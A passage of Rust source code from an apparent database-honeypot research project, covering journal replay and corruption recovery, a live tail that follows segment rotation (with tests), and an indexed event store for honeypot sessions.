            self.halt_with_error(start, JournalErrorKind::TornRecord { needed, available }, 0);
        }
    }
}

impl<I> Iterator for Replay<I>
where
    I: ExactSizeIterator<Item = std::io::Result<Vec<u8>>>,
{
    type Item = Event;

    fn next(&mut self) -> Option<Event> {
        loop {
            if self.halted {
                return None;
            }
            if self.current.is_none() {
                let next = self.segments.next()?;
                self.stats.segments_scanned = self.stats.segments_scanned.saturating_add(1);
                self.next_segment = self.next_segment.saturating_add(1);
                let buf = match next {
                    Ok(buf) => buf,
                    Err(e) => {
                        self.halt_with_error(
                            0,
                            JournalErrorKind::Io {
                                message: e.to_string(),
                            },
                            0,
                        );
                        return None;
                    }
                };
                match parse_header(&buf) {
                    Ok(first_seq) if first_seq == self.next_seq => {
                        self.current = Some((buf, HEADER_LEN));
                    }
                    Ok(found) => {
                        self.current = Some((buf, HEADER_LEN));
                        self.halt_with_error(
                            8,
                            JournalErrorKind::SequenceGap {
                                expected: self.next_seq,
                                found,
                            },
                            HEADER_LEN,
                        );
                        return None;
                    }
                    Err(kind @ JournalErrorKind::HeaderTruncated { .. })
                        if self.segments.len() == 0 =>
                    {
                        // Torn rotation on the final segment: the process
                        // died while the new header was being written.
                        let _ = kind;
                        self.stats.bytes_truncated =
                            self.stats.bytes_truncated.saturating_add(buf.len() as u64);
                        self.halted = true;
                        return None;
                    }
                    Err(kind) => {
                        self.stats.bytes_truncated =
                            self.stats.bytes_truncated.saturating_add(buf.len() as u64);
                        self.halt_with_error(0, kind, buf.len());
                        return None;
                    }
                }
                continue;
            }
            let (start, outcome) = match &self.current {
                Some((buf, pos)) => (*pos, read_frame(buf, *pos, self.next_seq)),
                None => continue,
            };
            match outcome {
                FrameOutcome::End => {
                    self.current = None;
                }
                FrameOutcome::Record { event, next_pos } => {
                    if let Some((_, pos)) = self.current.as_mut() {
                        *pos = next_pos;
                    }
                    self.next_seq = self.next_seq.saturating_add(1);
                    self.stats.records_kept = self.stats.records_kept.saturating_add(1);
                    return Some(event);
                }
                FrameOutcome::Torn { needed, available } => {
                    self.handle_torn(start, needed, available);
                    return None;
                }
                FrameOutcome::Corrupt(kind) => {
                    self.halt_with_error(start, kind, start);
                    return None;
                }
            }
        }
    }
}

/// Replay a journal held entirely in memory: decode `segments` in order and
/// return the recovered prefix plus stats. This is the pure entry point the
/// corruption fuzz campaign drives; the file-backed path in
/// [`super::JournalReader`] uses the same [`Replay`] driver.
pub fn recover_events(segments: Vec<Vec<u8>>) -> (Vec<Event>, RecoveryStats) {
    let mut replay = Replay::new(segments.into_iter().map(Ok));
    let events: Vec<Event> = replay.by_ref().collect();
    (events, replay.finish())
}

/// Scan one segment for repair-on-reopen: returns `(first_seq, records,
/// valid_end)` — the header's first sequence number, how many contiguous
/// valid records follow it, and the byte offset where validity ends (the
/// truncation point for a torn or corrupt tail). `None` when the header
/// itself is unreadable.
pub(crate) fn scan_segment(buf: &[u8]) -> Option<(u64, u64, usize)> {
    let first_seq = parse_header(buf).ok()?;
    let mut records = 0u64;
    let mut pos = HEADER_LEN;
    loop {
        match read_frame(buf, pos, first_seq.saturating_add(records)) {
            FrameOutcome::Record { next_pos, .. } => {
                records = records.saturating_add(1);
                pos = next_pos;
            }
            FrameOutcome::End | FrameOutcome::Torn { .. } | FrameOutcome::Corrupt(_) => {
                return Some((first_seq, records, pos))
            }
        }
    }
}
