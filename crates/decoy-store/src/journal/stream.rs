//! Segment-granular streaming over a journal: closed segments as batches,
//! and a tail that follows a journal while it is still being written.
//!
//! [`Replay`](super::Replay) yields one *event* at a time and enforces the
//! strict whole-journal prefix contract. The streaming analysis path wants
//! the journal's own natural unit instead — one [`SegmentBatch`] per
//! segment file, carrying the header's first sequence number so a fold can
//! position itself — and a [`JournalTail`] that picks up new records as a
//! live writer flushes them. Everything here parses potentially corrupt
//! on-disk bytes, so this file is registered in the `decoy-xtask`
//! panic-freedom lint (`ENFORCED_FILES`) and obeys the byte-path rules.
//!
//! Rotation protocol the tail leans on: the writer flushes and fsyncs a
//! segment *before* creating its successor, so once a successor file
//! exists the previous segment is complete on disk. A torn frame in a
//! segment with a successor is therefore real corruption; the same torn
//! frame in the newest segment just means the writer has not finished the
//! record yet, and the tail waits.

use super::decode::{check_frame, parse_header, read_frame, FrameOutcome};
use super::encode::HEADER_LEN;
use super::{list_segment_indices, segment_path, JournalError, JournalErrorKind, JournalReader};
use crate::events::Event;
use std::fs;
use std::io::{self, Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};

/// One decoded segment file: every record that could be replayed from it,
/// plus what (if anything) went wrong.
#[derive(Debug, Clone, PartialEq)]
pub struct SegmentBatch {
    /// Zero-based position of the segment in replay order.
    pub index: u32,
    /// The header's first sequence number — the global sequence of
    /// `events[0]`. Zero when the header itself was unreadable.
    pub first_seq: u64,
    /// Whether the header parsed; when false, `events` is empty and
    /// `error` holds the header failure.
    pub header_ok: bool,
    /// The contiguous valid records, in order.
    pub events: Vec<Event>,
    /// A frame that ran past the end of the segment. Expected on the
    /// newest segment after a crash; corruption anywhere else.
    pub torn: Option<JournalError>,
    /// The first structural corruption, if any.
    pub error: Option<JournalError>,
    /// CRC-valid records found after the first corruption (exist on disk
    /// but cannot be replayed in order).
    pub records_dropped: u64,
    /// Bytes neither decoded nor countable as whole records.
    pub bytes_truncated: u64,
}

/// Decode one segment's bytes into a batch. Total: any byte sequence maps
/// to a batch, never a panic.
fn decode_segment(buf: &[u8], segment: u32) -> SegmentBatch {
    let mut batch = SegmentBatch {
        index: segment,
        first_seq: 0,
        header_ok: false,
        events: Vec::new(),
        torn: None,
        error: None,
        records_dropped: 0,
        bytes_truncated: 0,
    };
    let first_seq = match parse_header(buf) {
        Ok(seq) => seq,
        Err(kind) => {
            batch.bytes_truncated = buf.len() as u64;
            batch.error = Some(JournalError {
                segment,
                offset: 0,
                kind,
            });
            return batch;
        }
    };
    batch.header_ok = true;
    batch.first_seq = first_seq;
    let mut pos = HEADER_LEN;
    loop {
        let expected = first_seq.saturating_add(batch.events.len() as u64);
        match read_frame(buf, pos, expected) {
            FrameOutcome::End => break,
            FrameOutcome::Record { event, next_pos } => {
                batch.events.push(event);
                pos = next_pos;
            }
            FrameOutcome::Torn { needed, available } => {
                batch.bytes_truncated = batch
                    .bytes_truncated
                    .saturating_add(buf.len().saturating_sub(pos) as u64);
                batch.torn = Some(JournalError {
                    segment,
                    offset: pos,
                    kind: JournalErrorKind::TornRecord { needed, available },
                });
                break;
            }
            FrameOutcome::Corrupt(kind) => {
                batch.error = Some(JournalError {
                    segment,
                    offset: pos,
                    kind,
                });
                // Drop scan, as in `Replay`: count structurally valid
                // records beyond the damage so callers know what was lost.
                let mut scan = pos;
                loop {
                    match check_frame(buf, scan) {
                        Ok(Some(next)) => {
                            batch.records_dropped = batch.records_dropped.saturating_add(1);
                            scan = next;
                        }
                        Ok(None) => break,
                        Err(()) => {
                            batch.bytes_truncated = batch
                                .bytes_truncated
                                .saturating_add(buf.len().saturating_sub(scan) as u64);
                            break;
                        }
                    }
                }
                break;
            }
        }
    }
    batch
}

/// Iterator over a reader's segment files, one decoded [`SegmentBatch`]
/// per file — one segment in memory at a time, never a whole store.
pub struct Segments {
    paths: std::vec::IntoIter<PathBuf>,
    index: u32,
}

impl Iterator for Segments {
    type Item = io::Result<SegmentBatch>;

    fn next(&mut self) -> Option<Self::Item> {
        let path = self.paths.next()?;
        let segment = self.index;
        self.index = self.index.saturating_add(1);
        Some(fs::read(&path).map(|buf| decode_segment(&buf, segment)))
    }

    fn size_hint(&self) -> (usize, Option<usize>) {
        self.paths.size_hint()
    }
}

impl ExactSizeIterator for Segments {}

impl JournalReader {
    /// The snapshot's segments as decoded batches, in replay order.
    ///
    /// Unlike [`JournalReader::replay`] this imposes no cross-segment
    /// sequencing: each batch carries its header's `first_seq` and the
    /// caller (the analysis fold) decides how to stitch or reject.
    pub fn segments(&self) -> Segments {
        Segments {
            paths: self.segment_paths().to_vec().into_iter(),
            index: 0,
        }
    }

    /// A tail over `dir` that follows the journal as it grows.
    pub fn tail(dir: impl AsRef<Path>) -> JournalTail {
        JournalTail::open(dir)
    }
}

/// Follows a journal directory that is still being written, yielding new
/// records as the writer flushes them and crossing segment boundaries once
/// a successor file proves the previous segment complete.
///
/// Infallible to open (the directory may not even exist yet); transient
/// emptiness is just an empty poll. The first structural corruption is
/// sticky: it is reported through [`JournalTail::error`] and every later
/// poll returns no events.
#[derive(Debug)]
pub struct JournalTail {
    dir: PathBuf,
    /// File index of the segment currently being followed.
    segment: Option<u64>,
    /// Zero-based replay position of that segment (for error reports).
    position: u32,
    /// Bytes of the current segment already consumed (header included).
    consumed: u64,
    /// The global sequence number expected next; `None` until the first
    /// header is adopted.
    next_seq: Option<u64>,
    error: Option<JournalError>,
}

impl JournalTail {
    /// Start following `dir`. The directory (and its first segment) may
    /// not exist yet.
    pub fn open(dir: impl AsRef<Path>) -> JournalTail {
        JournalTail {
            dir: dir.as_ref().to_path_buf(),
            segment: None,
            position: 0,
            consumed: 0,
            next_seq: None,
            error: None,
        }
    }

    /// The first corruption encountered, if any. Once set, polls return
    /// no further events.
    pub fn error(&self) -> Option<&JournalError> {
        self.error.as_ref()
    }

    /// The global sequence number the next yielded record will carry
    /// (`None` before the first header has been read).
    pub fn next_seq(&self) -> Option<u64> {
        self.next_seq
    }

    /// Record a sticky error at `rel` bytes past the already-consumed
    /// prefix of the current segment.
    fn fail(&mut self, rel: u64, kind: JournalErrorKind) {
        if self.error.is_none() {
            self.error = Some(JournalError {
                segment: self.position,
                offset: usize::try_from(self.consumed.saturating_add(rel)).unwrap_or(usize::MAX),
                kind,
            });
        }
    }

    /// Collect every record that has become durable since the last poll.
    ///
    /// Returns an empty vec when nothing new is visible (including before
    /// the journal exists at all). I/O errors other than not-yet-existing
    /// files surface as `Err`; structural corruption is reported through
    /// [`JournalTail::error`] instead and ends the tail.
    pub fn poll(&mut self) -> io::Result<Vec<Event>> {
        let mut out = Vec::new();
        if self.error.is_some() {
            return Ok(out);
        }
        loop {
            let indices = match list_segment_indices(&self.dir) {
                Ok(v) => v,
                Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(out),
                Err(e) => return Err(e),
            };
            let current = match self.segment {
                Some(i) => i,
                None => match indices.first() {
                    Some(&i) => {
                        self.segment = Some(i);
                        i
                    }
                    None => return Ok(out),
                },
            };
            let successor = indices.iter().copied().filter(|&i| i > current).min();
            let chunk = match read_from(&segment_path(&self.dir, current), self.consumed) {
                Ok(bytes) => bytes,
                Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(out),
                Err(e) => return Err(e),
            };
            let mut pos = 0usize;
            if self.consumed == 0 {
                if chunk.len() < HEADER_LEN {
                    if successor.is_some() {
                        // complete on disk yet shorter than a header
                        self.fail(
                            0,
                            JournalErrorKind::HeaderTruncated {
                                available: chunk.len(),
                            },
                        );
                    }
                    return Ok(out);
                }
                match parse_header(&chunk) {
                    Ok(first_seq) => match self.next_seq {
                        None => self.next_seq = Some(first_seq),
                        Some(expected) if expected == first_seq => {}
                        Some(expected) => {
                            self.fail(
                                8,
                                JournalErrorKind::SequenceGap {
                                    expected,
                                    found: first_seq,
                                },
                            );
                            return Ok(out);
                        }
                    },
                    Err(kind) => {
                        self.fail(0, kind);
                        return Ok(out);
                    }
                }
                pos = HEADER_LEN;
            }
            let mut ended = false;
            loop {
                let expected = self.next_seq.unwrap_or(0);
                match read_frame(&chunk, pos, expected) {
                    FrameOutcome::End => {
                        ended = true;
                        break;
                    }
                    FrameOutcome::Record { event, next_pos } => {
                        out.push(event);
                        self.next_seq = Some(expected.saturating_add(1));
                        pos = next_pos;
                    }
                    FrameOutcome::Torn { needed, available } => {
                        if successor.is_some() {
                            // the segment is complete, so this can never
                            // finish: real corruption, not an in-flight write
                            self.fail(
                                pos as u64,
                                JournalErrorKind::TornRecord { needed, available },
                            );
                        }
                        break;
                    }
                    FrameOutcome::Corrupt(kind) => {
                        self.fail(pos as u64, kind);
                        break;
                    }
                }
            }
            self.consumed = self.consumed.saturating_add(pos as u64);
            if self.error.is_some() {
                return Ok(out);
            }
            match successor {
                Some(next) if ended => {
                    // rotation: the writer fsynced this segment before
                    // creating `next`, so it is safe to move on
                    self.segment = Some(next);
                    self.position = self.position.saturating_add(1);
                    self.consumed = 0;
                }
                _ => return Ok(out),
            }
        }
    }
}

/// Read a file's contents from byte `offset` to its current end.
fn read_from(path: &Path, offset: u64) -> io::Result<Vec<u8>> {
    let mut file = fs::File::open(path)?;
    if offset > 0 {
        file.seek(SeekFrom::Start(offset))?;
    }
    let mut out = Vec::new();
    file.read_to_end(&mut out)?;
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::super::encode;
    use super::*;
    use crate::events::{ConfigVariant, Dbms, EventKind, HoneypotId, InteractionLevel};
    use decoy_net::time::Timestamp;
    use std::net::IpAddr;
    use std::sync::atomic::{AtomicU64, Ordering};

    fn temp_dir(tag: &str) -> PathBuf {
        static N: AtomicU64 = AtomicU64::new(0);
        let dir = std::env::temp_dir().join(format!(
            "decoy-stream-{tag}-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).expect("create temp dir");
        dir
    }

    fn ev(i: u64) -> Event {
        Event {
            ts: Timestamp::from_millis(i),
            honeypot: HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            src: IpAddr::from([198, 51, 100, (i % 251) as u8]),
            session: i,
            kind: EventKind::Command {
                action: "KEYS".into(),
                raw: format!("KEYS pattern-{i}"),
            },
        }
    }

    fn write_segment(dir: &Path, index: u64, first_seq: u64, events: &[Event]) {
        fs::write(
            segment_path(dir, index),
            encode::encode_segment(first_seq, events),
        )
        .expect("write segment");
    }

    #[test]
    fn segments_yield_batches_with_positions() {
        let dir = temp_dir("segments");
        let events: Vec<Event> = (0..10).map(ev).collect();
        write_segment(&dir, 0, 0, &events[..6]);
        write_segment(&dir, 1, 6, &events[6..]);
        let reader = JournalReader::open(&dir).expect("reader");
        let batches: Vec<SegmentBatch> = reader
            .segments()
            .collect::<io::Result<Vec<_>>>()
            .expect("read");
        assert_eq!(batches.len(), 2);
        assert_eq!(batches[0].first_seq, 0);
        assert_eq!(batches[0].events, events[..6].to_vec());
        assert!(batches[0].header_ok);
        assert!(batches[0].error.is_none() && batches[0].torn.is_none());
        assert_eq!(batches[1].index, 1);
        assert_eq!(batches[1].first_seq, 6);
        assert_eq!(batches[1].events, events[6..].to_vec());
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn torn_and_corrupt_segments_decode_totally() {
        let dir = temp_dir("damage");
        let events: Vec<Event> = (0..6).map(ev).collect();
        let mut torn = encode::encode_segment(0, &events[..3]);
        torn.truncate(torn.len() - 2);
        fs::write(segment_path(&dir, 0), &torn).expect("write");
        // header claims first_seq 3 but the frames carry 4..: CRC-valid
        // records that are out of sequence — the drop-scan shape
        let mut spliced = encode::encode_segment(4, &events[3..]);
        spliced[8..16].copy_from_slice(&3u64.to_le_bytes());
        fs::write(segment_path(&dir, 1), &spliced).expect("write");

        let reader = JournalReader::open(&dir).expect("reader");
        let batches: Vec<SegmentBatch> = reader
            .segments()
            .collect::<io::Result<Vec<_>>>()
            .expect("read");
        assert_eq!(batches[0].events, events[..2].to_vec());
        assert!(batches[0].torn.is_some());
        assert!(batches[0].bytes_truncated > 0);
        let err = batches[1].error.as_ref().expect("sequence gap");
        assert!(matches!(err.kind, JournalErrorKind::SequenceGap { .. }));
        assert!(batches[1].events.is_empty());
        assert_eq!(batches[1].records_dropped, 3, "valid frames after damage");
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn tail_follows_growth_and_rotation() {
        let dir = temp_dir("tail");
        let events: Vec<Event> = (0..9).map(ev).collect();
        let mut tail = JournalReader::tail(&dir);
        assert!(tail.poll().expect("empty dir").is_empty());

        // first segment appears with three records
        write_segment(&dir, 0, 0, &events[..3]);
        assert_eq!(tail.poll().expect("poll"), events[..3].to_vec());
        assert!(tail.poll().expect("idle").is_empty());

        // it grows in place (same bytes re-written longer)
        write_segment(&dir, 0, 0, &events[..5]);
        assert_eq!(tail.poll().expect("poll"), events[3..5].to_vec());

        // a torn in-flight record: wait, don't fail
        let full = encode::encode_segment(0, &events[..6]);
        fs::write(segment_path(&dir, 0), &full[..full.len() - 1]).expect("write");
        assert!(tail.poll().expect("torn tail waits").is_empty());
        assert!(tail.error().is_none());
        fs::write(segment_path(&dir, 0), &full).expect("write");
        assert_eq!(tail.poll().expect("poll"), events[5..6].to_vec());

        // rotation: successor appears, tail crosses the boundary
        write_segment(&dir, 1, 6, &events[6..]);
        assert_eq!(tail.poll().expect("poll"), events[6..].to_vec());
        assert_eq!(tail.next_seq(), Some(9));
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn tail_reports_gap_and_corruption_sticky() {
        let dir = temp_dir("tail-gap");
        let events: Vec<Event> = (0..6).map(ev).collect();
        write_segment(&dir, 0, 0, &events[..3]);
        // segment 1 skips a sequence number: a lost segment
        write_segment(&dir, 1, 5, &events[5..]);
        let mut tail = JournalReader::tail(&dir);
        assert_eq!(tail.poll().expect("poll"), events[..3].to_vec());
        let err = tail.error().expect("gap detected").clone();
        assert!(matches!(
            err.kind,
            JournalErrorKind::SequenceGap {
                expected: 3,
                found: 5
            }
        ));
        assert_eq!(err.segment, 1);
        assert!(tail.poll().expect("sticky").is_empty());
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn tail_flags_torn_frame_in_completed_segment() {
        let dir = temp_dir("tail-torn");
        let events: Vec<Event> = (0..6).map(ev).collect();
        let mut torn = encode::encode_segment(0, &events[..3]);
        torn.truncate(torn.len() - 2);
        fs::write(segment_path(&dir, 0), &torn).expect("write");
        write_segment(&dir, 1, 3, &events[3..]);
        let mut tail = JournalReader::tail(&dir);
        assert_eq!(tail.poll().expect("poll"), events[..2].to_vec());
        let err = tail.error().expect("torn + successor = corruption");
        assert!(matches!(err.kind, JournalErrorKind::TornRecord { .. }));
        let _ = fs::remove_dir_all(&dir);
    }
}
