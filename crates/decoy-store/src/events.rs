//! The standardized event store (the paper's SQLite pipeline stage).
//!
//! Every honeypot session appends [`Event`]s here through a cheaply clonable
//! handle. The store keeps secondary indexes by source IP and by honeypot
//! DBMS so the analysis crate can run the paper's aggregations (Tables 5–12,
//! Figures 2–9) without scanning everything repeatedly.

use decoy_net::supervisor::HealthState;
use decoy_net::time::Timestamp;
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// Which database a honeypot emulates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Dbms {
    /// MySQL (port 3306).
    MySql,
    /// PostgreSQL (port 5432).
    Postgres,
    /// Redis (port 6379).
    Redis,
    /// Microsoft SQL Server (port 1433).
    Mssql,
    /// Elasticsearch (port 9200).
    Elastic,
    /// MongoDB (port 27017).
    MongoDb,
    /// CouchDB (port 5984) — coverage extension beyond Table 4 (the
    /// paper's limitations section names it as future work).
    CouchDb,
}

impl Dbms {
    /// The standard TCP port of this DBMS (Table 4).
    pub fn port(&self) -> u16 {
        match self {
            Dbms::MySql => 3306,
            Dbms::Postgres => 5432,
            Dbms::Redis => 6379,
            Dbms::Mssql => 1433,
            Dbms::Elastic => 9200,
            Dbms::MongoDb => 27017,
            Dbms::CouchDb => 5984,
        }
    }

    /// Display name used in tables (matches the paper's abbreviations).
    pub fn label(&self) -> &'static str {
        match self {
            Dbms::MySql => "MySQL",
            Dbms::Postgres => "PostgreSQL",
            Dbms::Redis => "Redis",
            Dbms::Mssql => "MSSQL",
            Dbms::Elastic => "Elastic",
            Dbms::MongoDb => "MongoDB",
            Dbms::CouchDb => "CouchDB",
        }
    }

    /// All DBMS in a stable order.
    pub fn all() -> [Dbms; 7] {
        [
            Dbms::MySql,
            Dbms::Postgres,
            Dbms::Redis,
            Dbms::Mssql,
            Dbms::Elastic,
            Dbms::MongoDb,
            Dbms::CouchDb,
        ]
    }
}

/// Honeypot interaction level (§2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum InteractionLevel {
    /// Qeeqbox-style: banner + credential capture only.
    Low,
    /// Protocol emulation with scripted responses.
    Medium,
    /// A real database engine behind the protocol.
    High,
}

/// Deployment configuration variant (Table 4 / §4.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ConfigVariant {
    /// Out-of-the-box configuration.
    Default,
    /// Populated with Mockaroo-style fake entries (Redis medium, MongoDB).
    FakeData,
    /// Logins always rejected (Sticky Elephant restricted variant).
    LoginDisabled,
    /// Low-interaction VM hosting all four DBMS on one IP.
    MultiService,
    /// Low-interaction control group: one DBMS per IP.
    SingleService,
}

/// Identifies one deployed honeypot instance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct HoneypotId {
    /// Emulated DBMS.
    pub dbms: Dbms,
    /// Interaction level.
    pub level: InteractionLevel,
    /// Configuration variant.
    pub config: ConfigVariant,
    /// Instance number within its (dbms, level, config) group.
    pub instance: u16,
}

impl HoneypotId {
    /// Construct an id.
    pub fn new(dbms: Dbms, level: InteractionLevel, config: ConfigVariant, instance: u16) -> Self {
        HoneypotId {
            dbms,
            level,
            config,
            instance,
        }
    }
}

/// `(source IP, session sequence)` — the unit the paper groups actions by.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct SessionKey {
    /// Source address of the session.
    pub src: IpAddr,
    /// Per-honeypot session sequence number.
    pub session: u64,
}

/// What happened.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum EventKind {
    /// TCP connection accepted.
    Connect,
    /// Connection ended (by either side).
    Disconnect,
    /// An authentication attempt with the captured credentials.
    LoginAttempt {
        /// Username as typed.
        username: String,
        /// Password as observed (cleartext where the protocol allows).
        password: String,
        /// Whether the honeypot granted access.
        success: bool,
    },
    /// A command/query executed against the emulated DBMS.
    Command {
        /// Normalized action token used for TF clustering (§6.1): the verb
        /// with volatile parameters (hashes, IPs, ports) masked.
        action: String,
        /// The raw rendered command, verbatim.
        raw: String,
    },
    /// An opaque payload that did not parse as the DBMS protocol.
    Payload {
        /// Captured byte count.
        len: usize,
        /// Recognized foreign protocol label (`rdp-scan`, ...), if any.
        recognized: Option<String>,
        /// Lossy text rendering for the logs.
        preview: String,
    },
    /// Input that violated the protocol grammar.
    Malformed {
        /// Human-readable description.
        detail: String,
    },
    /// A fleet-supervision health transition (operational telemetry, not
    /// attacker traffic; logged with a zero source and session).
    Health {
        /// State the supervised listener entered.
        state: HealthState,
        /// Total restarts of that listener so far.
        restarts: u32,
        /// Human-readable cause.
        detail: String,
    },
}

impl EventKind {
    /// True for kinds that constitute "meaningful interaction beyond basic
    /// connection" in the paper's classification (§4.3).
    pub fn is_interactive(&self) -> bool {
        !matches!(
            self,
            EventKind::Connect | EventKind::Disconnect | EventKind::Health { .. }
        )
    }
}

/// One log record.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Event {
    /// When it happened (virtual time in experiments).
    pub ts: Timestamp,
    /// Which honeypot logged it.
    pub honeypot: HoneypotId,
    /// Source address.
    pub src: IpAddr,
    /// Per-honeypot session sequence number.
    pub session: u64,
    /// What happened.
    pub kind: EventKind,
}

/// Append-only, indexed event store shared by all honeypots in a deployment.
///
/// Writers call [`EventStore::log`]; readers take a consistent snapshot via
/// the query methods. Locking is a single `RwLock` — honeypot sessions write
/// in short bursts, analysis reads after the run.
#[derive(Debug, Default)]
pub struct EventStore {
    inner: RwLock<Inner>,
    /// Fault-injection hook consulted before every append (chaos testing).
    fault_hook: RwLock<Option<FaultHook>>,
    /// Appends dropped by the fault hook.
    dropped: AtomicU64,
    /// Durable journal writer, when spooling is enabled (see
    /// [`EventStore::with_journal`]). Kept here so the store owns the
    /// writer's lifetime: dropping the store flushes and joins the writer.
    journal: RwLock<Option<crate::journal::JournalWriter>>,
}

/// Wrapper so the hook can live inside a `Debug` store.
struct FaultHook(Arc<dyn Fn(&Event) -> bool + Send + Sync>);

impl fmt::Debug for FaultHook {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("FaultHook")
    }
}

#[derive(Debug, Default)]
struct Inner {
    events: Vec<Event>,
    by_src: HashMap<IpAddr, Vec<usize>>,
    by_dbms: HashMap<Dbms, Vec<usize>>,
    by_session: HashMap<(HoneypotId, SessionKey), Vec<usize>>,
    /// Journal mirror, when spooling is enabled. Living inside `Inner`
    /// means the mirror happens under the same write lock as the append,
    /// so the journal sees events in exactly the store's order.
    sink: Option<crate::journal::JournalSink>,
}

impl Inner {
    /// Append one event under the held write lock, maintaining every
    /// secondary index and mirroring to the journal sink when spooling.
    /// The single place indexes are updated — the fault hook has already
    /// run by the time an event gets here, so a dropped append is dropped
    /// from the journal too.
    // decoy-hot-path: fn -- runs under the store write lock, once per logged event
    fn append_locked(&mut self, event: Event) {
        if let Some(sink) = &self.sink {
            sink.send(&event);
        }
        let idx = self.events.len();
        self.by_src.entry(event.src).or_default().push(idx);
        self.by_dbms
            .entry(event.honeypot.dbms)
            .or_default()
            .push(idx);
        self.by_session
            .entry((
                event.honeypot,
                SessionKey {
                    src: event.src,
                    session: event.session,
                },
            ))
            .or_default()
            .push(idx);
        self.events.push(event);
    }
}

impl EventStore {
    /// A fresh, empty store behind an `Arc` handle.
    pub fn new() -> Arc<Self> {
        Arc::new(EventStore::default())
    }

    /// Append one event. When a fault hook is installed and claims the
    /// event, the append is dropped and counted instead — the writer never
    /// learns, exactly like a lost log line in a real pipeline.
    pub fn log(&self, event: Event) {
        if self.hook_drops(&event) {
            return;
        }
        self.inner.write().append_locked(event);
    }

    /// Install a fault hook consulted before every append; events for which
    /// it returns `true` are silently dropped (see
    /// [`EventStore::dropped_appends`]). Chaos tests use this to prove the
    /// pipeline tolerates log loss.
    pub fn set_fault_hook(&self, hook: impl Fn(&Event) -> bool + Send + Sync + 'static) {
        *self.fault_hook.write() = Some(FaultHook(Arc::new(hook)));
    }

    /// Remove the fault hook.
    pub fn clear_fault_hook(&self) {
        *self.fault_hook.write() = None;
    }

    /// Number of appends dropped by the fault hook.
    pub fn dropped_appends(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }

    fn hook_drops(&self, event: &Event) -> bool {
        let hook = self.fault_hook.read();
        match hook.as_ref() {
            Some(h) if (h.0)(event) => {
                self.dropped.fetch_add(1, Ordering::Relaxed);
                true
            }
            _ => false,
        }
    }

    /// Attach a durable journal: every event that survives the fault hook
    /// is mirrored to `writer` from inside `append_locked`, under the same
    /// write lock as the in-memory append, so the on-disk order is exactly
    /// the store order. The store takes ownership of the writer; call
    /// [`EventStore::close_journal`] (or drop the store) to flush and
    /// fsync, and [`EventStore::journal_sync`] for an explicit barrier.
    pub fn with_journal(&self, writer: crate::journal::JournalWriter) {
        self.inner.write().sink = writer.sink();
        *self.journal.write() = Some(writer);
    }

    /// Block until every event logged so far is on disk (no-op without an
    /// attached journal).
    pub fn journal_sync(&self) -> std::io::Result<()> {
        match self.journal.read().as_ref() {
            Some(writer) => writer.sync(),
            None => Ok(()),
        }
    }

    /// Detach and shut down the journal, returning its final counters
    /// (`Ok(None)` when no journal was attached).
    pub fn close_journal(&self) -> std::io::Result<Option<crate::journal::WriterStats>> {
        self.inner.write().sink = None;
        let writer = self.journal.write().take();
        match writer {
            Some(writer) => writer.close().map(Some),
            None => Ok(None),
        }
    }

    /// Build a store from a collection of events (used to slice a run's
    /// events into per-fleet views, e.g. low-interaction only).
    pub fn from_events(events: impl IntoIterator<Item = Event>) -> Arc<Self> {
        let store = EventStore::new();
        store.log_many(events);
        store
    }

    /// Append many events at once (used by the direct-mode generator). The
    /// fault hook applies per event, as in [`EventStore::log`], but the
    /// write lock is taken once for the whole batch.
    pub fn log_many(&self, events: impl IntoIterator<Item = Event>) {
        let hook = self.fault_hook.read();
        let mut inner = self.inner.write();
        for event in events {
            if let Some(h) = hook.as_ref() {
                if (h.0)(&event) {
                    self.dropped.fetch_add(1, Ordering::Relaxed);
                    continue;
                }
            }
            inner.append_locked(event);
        }
    }

    /// Total number of events.
    pub fn len(&self) -> usize {
        self.inner.read().events.len()
    }

    /// True when no events have been logged.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Snapshot of all events in log order.
    pub fn all(&self) -> Vec<Event> {
        self.inner.read().events.clone()
    }

    /// Events from one source IP, in log order.
    pub fn by_src(&self, src: IpAddr) -> Vec<Event> {
        let inner = self.inner.read();
        inner
            .by_src
            .get(&src)
            .map(|idxs| {
                idxs.iter()
                    .filter_map(|&i| inner.events.get(i).cloned())
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Events logged by honeypots of one DBMS, in log order.
    pub fn by_dbms(&self, dbms: Dbms) -> Vec<Event> {
        let inner = self.inner.read();
        inner
            .by_dbms
            .get(&dbms)
            .map(|idxs| {
                idxs.iter()
                    .filter_map(|&i| inner.events.get(i).cloned())
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Distinct source IPs observed, unordered.
    pub fn sources(&self) -> Vec<IpAddr> {
        self.inner.read().by_src.keys().copied().collect()
    }

    /// Events matching an arbitrary predicate (the "any query" escape hatch).
    pub fn filter(&self, pred: impl Fn(&Event) -> bool) -> Vec<Event> {
